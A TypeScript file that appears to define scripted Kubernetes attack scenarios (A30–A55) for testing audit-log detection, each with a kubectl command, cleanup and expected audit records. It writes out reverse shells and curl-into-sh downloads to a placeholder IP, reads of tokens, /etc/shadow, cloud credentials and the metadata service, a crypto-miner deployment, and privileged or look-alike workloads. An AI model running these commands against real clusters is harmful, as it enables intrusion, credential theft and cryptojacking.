import { type Action, madeBy } from '../action.ts'

/** Shell that prints the name of one pod of the shop. */
const POD = '$(kubectl -n shop get pods -l app=web -o name | head -1)'
const AGAIN = (name: string, namespace = 'shop') =>
  `kubectl -n ${namespace} delete pod ${name} --force --grace-period=0 --ignore-not-found`

/** A30–A41: into containers and nodes. */
const INTO_CONTAINERS: readonly Action[] = [
  {
    code: 'A30',
    name: 'exec',
    does: 'kubectl exec and kubectl attach into a pod, by a developer',
    actor: 'alice',
    place: 'office',
    run: `kubectl -n shop exec deploy/web -- ls /www; timeout 2 kubectl -n shop attach ${POD}`,
    holds: ['get pods/exec 101', 'get pods/attach 101']
  },
  {
    code: 'A30',
    name: 'exec-spdy',
    does: 'kubectl exec as older clients do it (SPDY, a POST), and one that is refused',
    actor: 'alice',
    place: 'office',
    run: 'KUBECTL_REMOTE_COMMAND_WEBSOCKETS=false kubectl -n shop exec deploy/web -- id; kubectl -n payments exec db-0 -- id',
    holds: ['create pods/exec 101', 'get pods 403']
  },
  {
    code: 'A30',
    name: 'exec-denied',
    does: 'exec by who may see pods but not go into them, as WebSocket and as SPDY',
    actor: 'default',
    run: 'kubectl -n payments exec db-0 -- id; KUBECTL_REMOTE_COMMAND_WEBSOCKETS=false kubectl -n payments exec db-0 -- id',
    holds: ['get pods/exec 403', 'create pods/exec 403']
  },
  {
    code: 'A31',
    name: 'exec-kube-system',
    does: 'exec into a pod of kube-system',
    actor: 'mallory',
    run: 'kubectl -n kube-system exec deploy/coredns -- cat /etc/passwd',
    holds: ['get pods/exec 101']
  },
  {
    code: 'A32',
    name: 'exec-by-service-account',
    does: 'The CI account goes into a pod of another team',
    actor: 'ci',
    place: 'runner',
    run: 'kubectl -n payments exec db-0 -- sh -c "ls /; env"',
    holds: ['get pods/exec 101']
  },
  {
    code: 'A33',
    name: 'reverse-shell',
    does: 'exec with reverse shells: /dev/tcp, nc -e, mkfifo, python, base64 into sh',
    actor: 'mallory',
    run: `x() { timeout 5 kubectl -n shop exec deploy/web -- "$@"; }
      x bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'
      x sh -c 'nc -w 1 203.0.113.66 4444 -e /bin/sh'
      x sh -c 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc -w 1 203.0.113.66 4444 > /tmp/f'
      x python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.66",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'
      x sh -c 'echo aWQ= | base64 -d | sh'`,
    holds: ['get pods/exec 101']
  },
  {
    code: 'A34',
    name: 'credentials',
    does: 'exec that reads tokens, node files, environments and the metadata service',
    actor: 'mallory',
    run: `x() { timeout 5 kubectl -n shop exec deploy/web -- "$@" >/dev/null; }
      x cat /var/run/secrets/kubernetes.io/serviceaccount/token; x sh -c 'cat /etc/shadow /root/.aws/credentials /root/.kube/config'
      x sh -c 'cat /proc/*/environ | tr "\\0" "\\n"'; x wget -T 1 -qO- http://169.254.169.254/latest/meta-data/iam/security-credentials/
      x wget -T 1 -qO- http://2852039166/; x sh -c 'ls /var/lib/kubelet /etc/kubernetes/pki'`,
    holds: ['get pods/exec 101']
  },
  {
    code: 'A35',
    name: 'download',
    does: 'exec that downloads a program and starts it',
    actor: 'mallory',
    run: `x() { timeout 5 kubectl -n shop exec deploy/web -- "$@"; }
      x wget -T 1 -q http://203.0.113.66/xmrig -O /tmp/x; x sh -c 'curl -fsSL https://203.0.113.66/i.sh | sh'; x sh -c 'wget -T 1 -qO- http://203.0.113.66/i.sh | sh'`,
    holds: ['get pods/exec 101']
  },
  {
    code: 'A36',
    name: 'copy',
    does: 'kubectl cp out of a pod and into it',
    actor: 'mallory',
    run: `echo tool > /tmp/weir-tool; pod=${POD}; kubectl -n shop cp \${pod#pod/}:/www/index.html /tmp/weir-index; kubectl -n shop cp /tmp/weir-tool \${pod#pod/}:/tmp/tool; rm -f /tmp/weir-tool /tmp/weir-index`,
    holds: ['get pods/exec 101']
  },
  {
    code: 'A37',
    name: 'port-forward',
    does: 'kubectl port-forward to a pod, with traffic, and to a port of a database; then the older way (SPDY)',
    actor: 'mallory',
    run: `kubectl -n shop port-forward ${POD} 18080:8080 & f=$!; sleep 2; curl -s http://127.0.0.1:18080/; kill $f; wait $f
      kubectl -n payments port-forward db-0 15432:5432 & f=$!; sleep 2; curl -s --max-time 1 http://127.0.0.1:15432/; kill $f; wait $f
      KUBECTL_PORT_FORWARD_WEBSOCKETS=false kubectl -n shop port-forward svc/web 18081:80 & f=$!; sleep 2; curl -s http://127.0.0.1:18081/; kill $f; wait $f`,
    holds: ['get pods/portforward 101', 'create pods/portforward 101']
  },
  {
    code: 'A38',
    name: 'debug-container',
    does: 'kubectl debug adds an ephemeral container to a running pod, aimed at its container',
    actor: 'mallory',
    run: `timeout 20 kubectl -n shop debug ${POD} --image busybox:test --target web -c debugger-1 -- sleep 3; sleep 1`,
    after: 'kubectl -n shop delete pods -l app=web --force --grace-period=0',
    holds: ['patch pods/ephemeralcontainers 200']
  },
  {
    code: 'A38',
    name: 'debug-sysadmin',
    does: 'kubectl debug with profile sysadmin, which makes the container privileged',
    actor: 'mallory',
    run: `timeout 20 kubectl -n shop debug ${POD} --image busybox:test --profile sysadmin -c debugger-2 -- sleep 3; sleep 1`,
    after: 'kubectl -n shop delete pods -l app=web --force --grace-period=0',
    holds: ['patch pods/ephemeralcontainers 200']
  },
  {
    code: 'A38',
    name: 'ephemeral-json-patch',
    does: 'An ephemeral container by JSON patch with curl, in kube-system',
    actor: 'mallory',
    run: `pod=$(kubectl -n kube-system get pods -l k8s-app=kube-dns -o jsonpath='{.items[0].metadata.name}')
      call /api/v1/namespaces/kube-system/pods/$pod/ephemeralcontainers -X PATCH -H 'Content-Type: application/json-patch+json' -d '[{"op":"add","path":"/spec/ephemeralContainers","value":[{"name":"look","image":"busybox:test","targetContainerName":"coredns","command":["sleep","5"],"securityContext":{"capabilities":{"add":["SYS_PTRACE"]}}}]}]'`,
    after: 'kubectl -n kube-system delete pods -l k8s-app=kube-dns --force --grace-period=0',
    holds: ['patch pods/ephemeralcontainers 200']
  },
  {
    code: 'A39',
    name: 'debug-node',
    does: 'kubectl debug node/… with its own profile and with profile sysadmin',
    actor: 'mallory',
    run: 'timeout 20 kubectl -n shop debug node/node1 --image busybox:test -- sleep 1; timeout 20 kubectl -n shop debug node/node1 --image busybox:test --profile sysadmin -- chroot /host id; sleep 1',
    after:
      'kubectl -n shop get pods -o name | grep node-debugger | xargs kubectl -n shop delete --force --grace-period=0',
    holds: ['create pods 201', 'get nodes 200']
  },
  {
    code: 'A40',
    name: 'kubelet-through-proxy',
    does: 'The kubelet is reached through nodes/proxy: pods, logs, a command by way of /run, configuration',
    actor: 'mallory',
    run: `pod=${POD}; for p in pods runningpods/ logs/ configz containerLogs/shop/\${pod#pod/}/web; do call /api/v1/nodes/node1/proxy/$p >/dev/null; done
      call "/api/v1/nodes/node1/proxy/run/shop/\${pod#pod/}/web?cmd=id" -X POST
      call "/api/v1/nodes/node1/proxy/exec/shop/\${pod#pod/}/web?command=id&output=1" -X POST; kubectl get --raw /api/v1/nodes/node1/proxy/pods >/dev/null`,
    holds: ['get nodes/proxy 200', 'create nodes/proxy 200']
  },
  {
    code: 'A41',
    name: 'service-and-pod-proxy',
    does: 'A pod and a service are reached through the API server’s proxy',
    actor: 'mallory',
    run: `pod=${POD}; call /api/v1/namespaces/shop/services/http:web:80/proxy/; call /api/v1/namespaces/shop/pods/\${pod#pod/}:8080/proxy/index.html; call /api/v1/namespaces/shop/pods/\${pod#pod/}:8080/proxy/admin -d x=1`,
    holds: ['get services/proxy 200', 'get pods/proxy 200', 'create pods/proxy 501']
  }
]

/** A42–A55: what is started. */
const WORKLOADS: readonly Action[] = [
  {
    code: 'A42',
    name: 'suspicious-command',
    does: 'Pods whose command, postStart hook or probe is a download into a shell, a reverse shell, a chroot or nsenter',
    actor: 'mallory',
    run: `kubectl -n shop run dropper --image busybox:test --restart Never -- sh -c 'wget -qO- http://203.0.113.66/i.sh | sh'
      kubectl -n shop run shell --image busybox:test --restart Never --command -- sh -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'
      kubectl create -f - <<K
{"apiVersion":"v1","kind":"Pod","metadata":{"name":"hook","namespace":"shop"},"spec":{"hostPID":true,"restartPolicy":"Never","initContainers":[{"name":"init","image":"busybox:test","command":["sh","-c","echo aWQ= | base64 -d | sh"]}],
 "containers":[{"name":"app","image":"busybox:test","command":["nsenter","-t","1","-m","-u","-i","-n","sh","-c","id"],"lifecycle":{"postStart":{"exec":{"command":["chroot","/host","sh"]}}},
 "livenessProbe":{"exec":{"command":["sh","-c","curl -s http://203.0.113.66/p | sh"]},"initialDelaySeconds":600},"args":[]}]}}
K`,
    after: `${AGAIN('dropper')}; ${AGAIN('shell')}; ${AGAIN('hook')}`,
    holds: ['create pods 201']
  },
  {
    code: 'A43',
    name: 'miner',
    does: 'Deployment of a miner image, with a pool in its arguments, and the pods of it',
    actor: 'mallory',
    run: `kubectl -n shop create deployment metrics --image docker.io/example/xmrig:6.21.0 -- /xmrig -o stratum+tcp://pool.example:3333 -u wallet; kubectl -n shop run hunter --image docker.io/aquasec/kube-hunter:0.6.8 --restart Never -- --pod`,
    also: madeBy('replicaset-controller', 'pods', 'shop'),
    settle_s: 2,
    after: `kubectl -n shop delete deployment metrics --force --grace-period=0; ${AGAIN('hunter')}`,
    holds: ['create deployments 201', 'create pods 201']
  },
  {
    code: 'A44',
    name: 'unknown-registry',
    does: 'A service account creates pods with images of a public hub and of an unknown registry',
    actor: 'web',
    run: 'kubectl -n shop run cache --image docker.io/stranger/tools:latest; kubectl -n shop set image deployment/web web=registry.stranger.example/web:2 --dry-run=server; kubectl -n shop run second --image registry.stranger.example:5000/a/b@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef',
    after: `${AGAIN('cache')}; ${AGAIN('second')}`,
    holds: ['create pods 201', 'patch deployments 200']
  },
  {
    code: 'A45',
    name: 'look-alike',
    does: 'Names that look like the control plane’s: pods, a DaemonSet, a service account, a namespace',
    actor: 'mallory',
    run: `kubectl -n shop run kube-pr0xy-8xk2p --image registry.kubernetes.example/kube-proxy:v1.34.4; kubectl create namespace kube-sytem; kubectl -n kube-sytem create serviceaccount corends
      kubectl -n kube-system run coredns-6f6b679f8f-x7k2p --image docker.io/stranger/coredns:1.11
      kubectl create -f - <<K
{"apiVersion":"apps/v1","kind":"DaemonSet","metadata":{"name":"kube-controller","namespace":"shop"},"spec":{"selector":{"matchLabels":{"app":"kc"}},"template":{"metadata":{"labels":{"app":"kc"}},"spec":{"containers":[{"name":"kube-controller","image":"registry.k8s.example/kube-controller:v1"}]}}}}
K`,
    also: madeBy('daemon-set-controller', 'pods', 'shop'),
    settle_s: 2,
    after: `kubectl -n shop delete daemonset kube-controller; kubectl delete namespace kube-sytem --wait=false; ${AGAIN('kube-pr0xy-8xk2p')}; ${AGAIN('coredns-6f6b679f8f-x7k2p', 'kube-system')}`,
    holds: ['create pods 201', 'create daemonsets 201', 'create namespaces 201', 'create serviceaccounts 201']
  },
  {
    code: 'A46',
    name: 'workload-in-kube-system',
    does: 'A pod and a Deployment in kube-system, a pod in kube-public',
    actor: 'mallory',
    run: 'kubectl -n kube-system run net-helper --image busybox:test -- sleep 600; kubectl -n kube-public run net-helper --image busybox:test -- sleep 600; kubectl -n kube-system create deployment dns-cache --image busybox:test -- sleep 600',
    also: madeBy('replicaset-controller', 'pods', 'kube-system'),
    settle_s: 2,
    after: `${AGAIN('net-helper', 'kube-system')}; ${AGAIN('net-helper', 'kube-public')}; kubectl -n kube-system delete deployment dns-cache --force --grace-period=0`,
    holds: ['create pods 201', 'create deployments 201']
  },
  {
    code: 'A47',
    name: 'naked-pod',
    does: 'Pods without an owner, one with the name of a ReplicaSet’s pod',
    actor: 'mallory',
    run: 'kubectl -n shop run web-5d4f8c7b9d-k8x2z --image busybox:test -- sleep 600; kubectl -n payments run tmp --image busybox:test --rm -i --restart Never -- id',
    after: `${AGAIN('web-5d4f8c7b9d-k8x2z')}; ${AGAIN('tmp', 'payments')}`,
    holds: ['create pods 201']
  },
  {
    code: 'A48',
    name: 'daemonset',
    does: 'A privileged DaemonSet, and its pods by the controller',
    actor: 'mallory',
    run: `kubectl apply -f - <<K
{"apiVersion":"apps/v1","kind":"DaemonSet","metadata":{"name":"agent","namespace":"shop"},"spec":{"selector":{"matchLabels":{"app":"agent"}},"template":{"metadata":{"labels":{"app":"agent"}},"spec":{"hostNetwork":true,"tolerations":[{"operator":"Exists"}],"containers":[{"name":"agent","image":"busybox:test","command":["sleep","600"],"securityContext":{"privileged":true}}]}}}}
K`,
    also: madeBy('daemon-set-controller', 'pods', 'shop'),
    settle_s: 2,
    after: 'kubectl -n shop delete daemonset agent --force --grace-period=0',
    holds: ['create daemonsets 201', 'create pods 201']
  },
  {
    code: 'A49',
    name: 'cronjob',
    does: 'A CronJob every minute, a change of it, a Job from it, and a Job of its own',
    actor: 'mallory',
    run: `kubectl -n shop create cronjob sync --image busybox:test --schedule '*/1 * * * *' -- sh -c 'wget -qO- http://203.0.113.66/i.sh | sh'
      kubectl -n shop patch cronjob sync -p '{"spec":{"schedule":"*/2 * * * *"}}'; kubectl -n shop create job sync-now --from cronjob/sync; kubectl -n shop create job once --image busybox:test -- id`,
    also: madeBy('job-controller', 'pods', 'shop'),
    settle_s: 2,
    after: 'kubectl -n shop delete cronjob sync; kubectl -n shop delete job sync-now once --force --grace-period=0',
    holds: ['create cronjobs 201', 'patch cronjobs 200', 'create jobs 201', 'create pods 201']
  },
  {
    code: 'A50',
    name: 'sidecar',
    does: 'A container is added to a Deployment by strategic merge patch, by JSON patch and by replacing the object; an init container too',
    actor: 'mallory',
    before: 'kubectl -n shop create deployment victim --image busybox:test --replicas 0 -- sleep 600',
    run: `kubectl -n shop patch deployment victim -p '{"spec":{"template":{"spec":{"containers":[{"name":"sidecar","image":"docker.io/stranger/proxy:1","command":["sleep","600"]}]}}}}'
      kubectl -n shop patch deployment victim --type json -p '[{"op":"add","path":"/spec/template/spec/containers/-","value":{"name":"second","image":"docker.io/stranger/proxy:1"}}]'
      kubectl -n shop patch deployment victim --type merge -p '{"spec":{"template":{"spec":{"initContainers":[{"name":"init","image":"busybox:test","command":["id"]}]}}}}'
      kubectl -n shop get deployment victim -o json | sed 's/"name": "second"/"name": "third"/' | kubectl replace -f -`,
    after: 'kubectl -n shop delete deployment victim --force --grace-period=0',
    holds: ['patch deployments 200', 'update deployments 200']
  },
  {
    code: 'A51',
    name: 'image-replaced',
    does: 'kubectl set image and kubectl edit-like apply of another image on what GitOps deployed',
    actor: 'mallory',
    before: 'kubectl -n shop create deployment victim --image busybox:test -- sleep 600',
    run: `kubectl -n shop set image deployment/victim busybox=docker.io/stranger/busybox:1
      kubectl -n shop patch pod foothold -p '{"spec":{"containers":[{"name":"app","image":"docker.io/stranger/busybox:1"}]}}' --dry-run=server`,
    after: 'kubectl -n shop delete deployment victim --force --grace-period=0',
    holds: ['patch deployments 200', 'patch pods 200']
  },
  {
    code: 'A52',
    name: 'same-image-everywhere',
    does: 'One new image is put into four workloads',
    actor: 'mallory',
    before:
      'for n in a b c d; do kubectl -n payments create deployment victim-$n --image busybox:test --replicas 0 -- sleep 600; done',
    run: 'for n in a b c d; do kubectl -n payments set image deployment/victim-$n busybox=docker.io/stranger/worker:7; done',
    after: 'for n in a b c d; do kubectl -n payments delete deployment victim-$n; done',
    holds: ['patch deployments 200']
  },
  {
    code: 'A53',
    name: 'static-pod',
    does: 'A manifest in the kubelet’s folder of static pods: the kubelet creates the mirror pod',
    actor: 'mallory',
    run: 'kubectl get pods -A --field-selector spec.nodeName=node1 -o name >/dev/null',
    before: `cat > ../static-pods/system-monitor.yaml <<K
{"apiVersion":"v1","kind":"Pod","metadata":{"name":"system-monitor","namespace":"kube-system"},"spec":{"hostNetwork":true,"terminationGracePeriodSeconds":0,"containers":[{"name":"m","image":"busybox:test","command":["sleep","600"],"securityContext":{"privileged":true}}]}}
K`,
    also: ({ user, verb, objectRef }) =>
      verb === 'create' &&
      objectRef?.resource === 'pods' &&
      objectRef.subresource === undefined &&
      user?.username === 'system:node:node1',
    settle_s: 24,
    after: 'rm -f ../static-pods/system-monitor.yaml',
    holds: ['create pods 201']
  },
  {
    code: 'A54',
    name: 'pinned-to-control-plane',
    does: 'Pods pinned to a node by nodeName, and by selector and toleration of the control plane',
    actor: 'mallory',
    run: `kubectl -n shop run pinned --image busybox:test --overrides '{"spec":{"nodeName":"node1"}}' -- sleep 60
      kubectl -n shop run tolerant --image busybox:test --overrides '{"spec":{"nodeSelector":{"node-role.kubernetes.io/control-plane":""},"tolerations":[{"key":"node-role.kubernetes.io/control-plane","operator":"Exists","effect":"NoSchedule"}]}}' -- sleep 60`,
    after: `${AGAIN('pinned')}; ${AGAIN('tolerant')}`,
    holds: ['create pods 201']
  },
  {
    code: 'A55',
    name: 'binding-and-eviction',
    does: 'A pod is bound to a node by hand, and pods are evicted (kubectl drain, dry, and the API)',
    actor: 'mallory',
    before: `kubectl -n shop create -f - <<K
{"apiVersion":"v1","kind":"Pod","metadata":{"name":"unscheduled"},"spec":{"schedulerName":"none","containers":[{"name":"c","image":"busybox:test","command":["sleep","60"]}]}}
K
      kubectl -n shop create deployment evictees --image busybox:test --replicas 10 -- sleep 600; kubectl -n shop rollout status deployment evictees --timeout 60s`,
    run: `call /api/v1/namespaces/shop/pods/unscheduled/binding -H 'Content-Type: application/json' -d '{"apiVersion":"v1","kind":"Binding","metadata":{"name":"unscheduled"},"target":{"kind":"Node","name":"node1"}}'
      for p in $(kubectl -n shop get pods -l app=evictees -o jsonpath='{.items[*].metadata.name}'); do call /api/v1/namespaces/shop/pods/$p/eviction -H 'Content-Type: application/json' -d '{"apiVersion":"policy/v1","kind":"Eviction","metadata":{"name":"'$p'"}}'; done`,
    after: `${AGAIN('unscheduled')}; kubectl -n shop delete deployment evictees --force --grace-period=0`,
    holds: ['create pods/binding 201', 'create pods/eviction 201']
  }
]

/** A30–A55. */
export const EXECUTION_ACTIONS: readonly Action[] = [...INTO_CONTAINERS, ...WORKLOADS]
